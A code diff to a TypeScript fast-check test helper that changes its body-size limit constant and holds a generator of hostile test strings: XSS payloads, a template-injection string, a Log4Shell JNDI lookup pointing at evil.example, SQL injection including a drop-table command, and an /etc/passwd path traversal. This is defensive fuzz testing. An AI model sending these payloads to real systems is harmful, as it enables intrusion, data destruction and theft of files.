@@ -1,9 +1,8 @@
 import * as fc from "fast-check";
-
-export const BODY_LIMIT_CHARACTERS = 65_536;
+import { BODY_MAX_BYTES } from "#platform/http/read-body.ts";
 
 /** This part again and again, to just below what a body may have. */
-export const long = (part: string, characters = BODY_LIMIT_CHARACTERS - 2_000) =>
+export const long = (part: string, characters = BODY_MAX_BYTES - 2_000) =>
 	part.repeat(Math.ceil(characters / part.length)).slice(0, characters);
 
 /** Texts that break other systems, or take a careless pattern forever. */
@@ -21,8 +20,7 @@ export const nastyText = fc.oneof(
 		"<script>alert(1)</script>",
 		`"><img src=x onerror=alert(1)>`,
 		"{{constructor.constructor('x')()}}",
-		// biome-ignore lint/suspicious/noTemplateCurlyInString: somebody hopes that it is evaluated.
-		"${jndi:ldap://evil.example/a}",
+		`\${jndi:ldap://evil.example/a}`,
 		"'; drop table outbox; --",
 		"' or '1'='1",
 		"../../../../etc/passwd",
